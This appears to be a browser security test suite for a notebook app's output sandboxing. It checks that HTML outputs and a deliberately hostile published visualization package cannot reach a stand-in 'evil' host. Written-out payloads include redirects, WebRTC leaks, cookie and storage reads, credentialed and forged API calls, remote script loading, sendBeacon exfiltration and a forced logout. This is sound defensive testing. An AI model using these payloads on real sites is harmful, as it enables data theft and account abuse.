/**
 * What leaves the frame of an output or a package: in the app, and on a page of another origin that
 * has no policy of its own.
 */
import { createSocket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { createClient } from '@tiding/client';
import type { Page } from 'playwright-core';
import { afterAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../support/chromium.ts';
import { ADMIN_PASSWORD, startEmbedded } from '../support/embedded.ts';
import { startRegistry } from '../support/npm-registry.ts';
import { openPage, signIn } from '../support/page.ts';
import { untilEnd } from '../support/until-end.ts';

/** Time in which whatever leaves a frame arrives, in ms. */
const ARRIVAL_MS = 1_500;
let hits: string[] = [];
let packets = 0;

const listening = (server: Server): Promise<string> =>
  new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () =>
      resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`),
    ),
  );
const rtc = (where = 'window'): string =>
  `const peer = new (${where}).RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:` +
  `${stun.address().port}" }] }); peer.createDataChannel("x"); ` +
  'peer.createOffer().then((offer) => peer.setLocalDescription(offer));';
const nested = (): string => JSON.stringify(`<script>${rtc()}</script>`).replaceAll('</', '<\\/');

/** Another host. */
const evil = createServer((request, response) => {
  hits.push(request.url ?? '');
  response.end('gone');
});
const evilUrl = await listening(evil);
/** A server that WebRTC asks for its address. */
const stun = untilEnd(createSocket('udp4'));
stun.on('message', () => (packets += 1));
await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
const portal = createServer((request, response) => {
  const [, note, paragraph] = (request.url ?? '').split('/');
  response.writeHead(200, { 'Content-Type': 'text/html' });
  response.end(
    `<!doctype html><body><tiding-paragraph server="${embedded.server.url}" note="${note}" ` +
      `paragraph="${paragraph}"></tiding-paragraph><script>` +
      `document.querySelector('tiding-paragraph').token = '${token}'</script>` +
      `<script type="module" src="${embedded.server.url}/tiding.js"></script>`,
  );
});
const portalUrl = await listening(portal);
const registry = untilEnd(await startRegistry());
const embedded = untilEnd(
  await startEmbedded({ allowOrigins: [portalUrl], heliumRegistry: registry.url }),
);
const client = untilEnd(createClient({ server: embedded.server.url }));
await client.session.login('admin', ADMIN_PASSWORD);
const token = (await client.tokens.create({ description: 'portal' })).token!;
const browser = untilEnd(await launchChromium());

afterAll(async () => {
  for (const server of [portal, evil]) server?.close();
});

/** Stores an HTML output in a note of the administrator. */
async function noteWith(html: string): Promise<{ note: string; paragraph: string }> {
  const id = await client.notes.create({ path: `escape/${Math.random()}` });
  const note = await client.open(id);
  const paragraph = note.paragraphs[0]!;
  paragraph.edit(`%js\nconsole.log(${JSON.stringify(`%html ${html}`)})`);
  expect((await paragraph.run()).status).toBe('FINISHED');
  await client.call('setTrust', { params: { noteId: id }, body: { trusted: true } });
  const ids = { note: id, paragraph: paragraph.id };
  note.close();
  return ids;
}

/** Shows an output on the portal's page, and returns the addresses of the frames that loaded. */
async function show(page: Page, html: string): Promise<string[]> {
  const frames: string[] = [];
  page.on('framenavigated', (frame) => void frames.push(frame.url()));
  const { note, paragraph } = await noteWith(html);
  hits = [];
  packets = 0;
  await page.goto(`${portalUrl}/${note}/${paragraph}`);
  await page.locator('tiding-paragraph article').waitFor();
  await wait(ARRIVAL_MS);
  return frames;
}

describe('an output on a page without a policy', () => {
  const outputs: Record<string, () => string> = {
    'is led away by a refresh': () =>
      `<meta http-equiv="refresh" content="0;url=${evilUrl}/refresh"><script></script>`,
    'is led away by a refresh without being trusted': () =>
      `<meta http-equiv="refresh" content="0;url=${evilUrl}/refresh"><p>shown</p>`,
    'leads itself away by a script': () =>
      `<p>shown</p><script>location = "${evilUrl}/script"</script>`,
    'opens a link in itself': () =>
      `<a id="a" href="${evilUrl}/link" target="_self">x</a><script>a.click()</script>`,
    'sends a form': () =>
      `<form id="f" action="${evilUrl}/form"></form><script>f.submit()</script>`,
    'leads the page around it away': () =>
      `<script>try { parent.location = "${evilUrl}/parent" } catch {}</script>`,
    'uses WebRTC': () => `<script>${rtc()}</script>`,
    'uses WebRTC in a frame of its own': () =>
      `<script>const f = document.createElement("iframe"); f.srcdoc = ${nested()};` +
      'document.body.append(f)</script>',
    'uses WebRTC in a frame that is parsed': () =>
      `<iframe srcdoc="${`<script>${rtc()}</script>`.replaceAll('"', '&quot;')}"></iframe>`,
    'uses WebRTC in a shadow root': () =>
      '<div id="h"></div><script>const f = document.createElement("iframe");' +
      `f.srcdoc = ${nested()}; h.attachShadow({ mode: "closed" }).append(f)</script>`,
    'uses WebRTC in a parsed shadow root': () =>
      '<div><template shadowrootmode="closed"><iframe srcdoc="' +
      `${`<script>${rtc()}</script>`.replaceAll('"', '&quot;')}"></iframe></template></div>`,
  };
  for (const [title, html] of Object.entries(outputs))
    it(`reaches no other host if it ${title}`, async () => {
      const { page, close } = await openPage(browser);
      const frames = await show(page, html());
      expect(frames).toContain(
        `${embedded.server.url}/output-frame/1${html().includes('<script') ? '' : '/still'}?nested`,
      );
      expect({ hits, packets }).toEqual({ hits: [], packets: 0 });
      await expect.poll(() => page.url()).toContain(portalUrl);
      await close();
    });

  it('is shown at its height, in a frame of a page of the server', async () => {
    const { page, close } = await openPage(browser);
    await show(page, '<p id="deep" style="height: 345px">shown</p>');
    const frame = page.locator('tiding-paragraph iframe');
    await expect.poll(() => frame.getAttribute('src')).toContain('/nested/output-frame/1');
    await expect.poll(async () => (await frame.boundingBox())?.height).toBeGreaterThan(345);
    await expect
      .poll(() => frame.contentFrame().frameLocator('iframe').locator('#deep').textContent())
      .toBe('shown');
    await close();
  });
});

it('an output in the app does not use WebRTC', async () => {
  const { note } = await noteWith(`<p>shown</p><script>${rtc()}</script>`);
  const { page, close } = await openPage(browser);
  await signIn(page, embedded.server.url, 'admin', ADMIN_PASSWORD);
  packets = 0;
  await page.goto(`${embedded.server.url}/#/notebook/${note}`);
  await page.locator('iframe').first().waitFor();
  await wait(ARRIVAL_MS);
  expect(packets).toBe(0);
  // The browser does offer it to other pages.
  await page.goto(evilUrl);
  await page.evaluate(rtc());
  await expect.poll(() => packets).toBeGreaterThan(0);
  await close();
});

describe('a package that attacks', () => {
  const NAME = 'a-hostile-view';
  let page: Page;
  let pageClosed: () => Promise<void>;
  const frame = () => page.frameLocator('iframe.package-frame');

  /** Shows a table with the package in the app of a user, or on the portal's page. */
  async function open(place: string, body: string): Promise<void> {
    const [prepare, render] = [body, "document.body.dataset['drawn'] = 'yes'"];
    const version = `1.0.${Math.floor(Math.random() * 1e9)}`;
    registry.publish(NAME, version, {
      more: { keywords: ['zeppelin-visualization'], dependencies: { 'zeppelin-vis': '*' } },
      files: {
        'package/index.js':
          "import Visualization from 'zeppelin-vis';" +
          "import Passthrough from 'zeppelin-tabledata/passthrough';" +
          'export default class extends Visualization {' +
          'getTransformation() { return new Passthrough({}); }' +
          `render() { ${render}; if (this.done) return; this.done = true; ${prepare} } }`,
      },
    });
    await client.packages.enable(NAME, `${NAME}@${version}`);
    const note = await client.open(await client.notes.create({ path: `packages/${version}` }));
    const paragraph = note.paragraphs[0]!;
    paragraph.edit("%js\nconsole.log('%table a\\tb\\n1\\t2')");
    expect((await paragraph.run()).status).toBe('FINISHED');
    await paragraph.configure({ results: { 0: { graph: { mode: NAME } } } });
    const address =
      place === 'the app'
        ? `${embedded.server.url}/#/notebook/${note.id}`
        : `${portalUrl}/${note.id}/${paragraph.id}`;
    note.close();
    const watched = await openPage(browser);
    [page, pageClosed] = [watched.page, watched.close];
    await signIn(page, embedded.server.url, 'admin', ADMIN_PASSWORD);
    hits = [];
    packets = 0;
    await page.goto(address);
  }

  it.each(['the app', 'the portal'])('in %s reaches nothing [S97]', async (place) => {
    const { url } = embedded.server;
    const api = JSON.stringify(`${url}/api/notebook`);
    const soon = (start: string): string =>
      `() => new Promise((reached, shut) => { setTimeout(() => shut('late'), 1000); ${start} })`;
    const attacks: Record<string, string> = {
      page: '() => parent.document.title',
      top: '() => top.document.title',
      storage: '() => localStorage.length',
      'storage of the page': '() => parent.localStorage.length',
      databases:
        "() => new Promise((done, no) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = no })",
      cookies: '() => document.cookie',
      call: `() => fetch(${api}, { credentials: 'include' })`,
      'change by a blind call': `() => fetch(${api}, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"name":"forged"}' })`,
      'old call': soon(
        `const x = new XMLHttpRequest(); x.withCredentials = true; x.onload = reached; x.onerror = shut; x.open('GET', ${api}); x.send()`,
      ),
      socket: soon(
        `const s = new WebSocket(${JSON.stringify(`${url.replace('http', 'ws')}/ws`)}); s.onopen = reached; s.onerror = shut`,
      ),
      picture: soon(
        `const i = new Image(); i.onload = reached; i.onerror = shut; i.src = ${JSON.stringify(`${url}/icon.svg`)}`,
      ),
      script: soon(
        `const e = document.createElement('script'); e.onload = reached; e.onerror = shut; e.src = ${JSON.stringify(`${evilUrl}/x.js`)}; document.head.append(e)`,
      ),
      worker: soon(
        `const w = new Worker(URL.createObjectURL(new Blob(['fetch(' + ${JSON.stringify(api)} + ').then(() => postMessage(1), () => postMessage(0))']))); w.onmessage = ({ data }) => data ? reached() : shut()`,
      ),
      window: `() => { if (!window.open(${JSON.stringify(`${evilUrl}/window`)})) throw 'shut' }`,
      beacon: `() => { navigator.sendBeacon(${JSON.stringify(`${evilUrl}/beacon`)}); throw 'seen at the other host' }`,
    };
    await open(
      place,
      `const attacks = {${Object.entries(attacks)
        .map(([name, code]) => `${JSON.stringify(name)}: ${code}`)
        .join(', ')}};
      const send = parent.postMessage.bind(parent);
      const port = { type: 'port' };
      for (const target of [parent, top]) for (const type of ['ready', 'port', 'show', 'config', 'height', 'open-link', 'message', 'error'])
        target.postMessage({ type, config: { stolen: 1 }, url: '${evilUrl}/link', href: '${evilUrl}/link', height: 1e9, message: 'forged' }, '*');
      ${rtc()}
      const form = document.createElement('form');
      form.method = 'post'; form.action = '${url}/api/login/logout'; form.target = '_top';
      document.body.append(form); form.submit();
      for (const where of [top, parent]) try { where.location = '${evilUrl}/top' } catch {}
      Promise.all(Object.entries(attacks).map(async ([name, attack]) => {
        try { await attack(); return name } catch { return '' }
      })).then((reached) => { document.body.dataset.reached = reached.filter(Boolean).join(', ') || 'nothing' });`,
    );
    const reached = () => frame().locator('body').getAttribute('data-reached');
    const before = page.url();
    await expect.poll(reached).toBe('nothing');
    await wait(ARRIVAL_MS);
    expect({ hits, packets, url: page.url() }).toEqual({ hits: [], packets: 0, url: before });
    expect((await client.notes.list()).map(({ path }) => path)).not.toContain('forged');
    expect(await page.getByRole('alertdialog').count()).toBe(0);
    expect((await page.request.get(`${url}/api/notebook`)).status()).toBe(200);
    await pageClosed();
  });

  it.each([
    ['leads its frame away', `location = '${evilUrl}/self'`],
    ['sends messages without end', "for (let n = 0; n < 1e5; n += 1) parent.postMessage('x', '*')"],
  ])('and %s is stopped [S97]', async (_, body) => {
    for (const place of ['the app', 'the portal']) {
      await open(place, body);
      await page.getByText('Try again').first().waitFor();
      expect(await page.locator('iframe.package-frame').count()).toBe(0);
      expect(hits).toEqual([]);
      await pageClosed();
    }
  });
});
